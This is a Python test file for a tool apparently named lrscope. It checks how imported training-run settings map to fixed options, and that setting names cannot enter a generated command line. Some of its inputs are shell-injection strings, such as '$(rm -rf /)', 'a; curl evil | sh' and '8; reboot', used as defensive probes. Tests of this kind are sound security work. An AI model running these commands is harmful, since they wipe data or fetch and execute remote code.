"""What imported runs say of their training becomes options: names from a fixed list, values that a setting can have."""

from __future__ import annotations

import pytest

from lrscope.config.command_line import CommandLine
from lrscope.findings.imported_options import UNKNOWN, imported_options


@pytest.mark.parametrize(
    ("settings", "options"),
    [
        ({}, {}),
        ({"batch_size": "80", "epochs": "5", "seed": "3"}, {"batch_size": 80, "epochs": 5}),
        ({"schedule": "linear"}, {"schedule": "linear", "warmup": "0"}),
        ({"schedule": "curved"}, {}),
        ({"lr_scheduler_type": "cosine", "warmup_ratio": "0.1"}, {"schedule": "cosine", "warmup": "10%"}),
        (
            {"lr_scheduler_type": "constant_with_warmup", "warmup_steps": "50"},
            {"schedule": "constant", "warmup": "50st"},
        ),
        ({"schedule": "warmup(6%) > linear"}, {"schedule": "warmup(6%) > linear"}),
        ({"lr_scheduler_type": "inverse_sqrt_of_my_own"}, {}),
        ({"adam_beta2": "0.95", "max_grad_norm": "0.5"}, {"beta2": 0.95, "clip_norm": 0.5}),
        ({"optim": "adamw_torch_fused"}, {}),
        ({"optim": "sgd", "hidden_dropout_prob": "0.1"}, {"optimizer": "sgd", "dropout": 0.1}),
        ({"weight_decay": "nan", "batch_size": "-1", "dropout": "a lot"}, {}),
        (
            {"lora_r": "8", "lora_alpha": "16", "lora_dropout": "0.05"},
            {
                "lora_rank": 8,
                "lora_alpha": 16.0,
                "lora_dropout": 0.05,
                "train_part": "lora",
            },
        ),
        ({"lora_rank": "8", "finetuning_type": "full"}, {}),
        ({"lora_r": "16", "use_peft": "True"}, {"train_part": "lora"}),
        ({"lora_r": "8", "use_peft": "False", "train_part": "head"}, {"train_part": "head"}),
        ({"lora_r": "0"}, {}),
        ({"label_names": "$(rm -rf /)"}, {"label_names": "$(rm -rf /)"}),
    ],
)
def test_settings_of_imported_runs(settings: dict[str, str], options: dict[str, object]) -> None:
    assert imported_options(settings) == {**UNKNOWN, **options}


@pytest.mark.parametrize("name", ["a; curl evil | sh #_names", "x_names", "--out", "\n_names", "`id`"])
def test_a_name_of_an_imported_setting_never_gets_into_a_command(name: str) -> None:
    text = CommandLine("sweep", imported_options({name: "1", "batch_size": "8; reboot"})).text("posix")
    assert text == "lrscope sweep --model MODEL --train TRAIN --dev DEV"
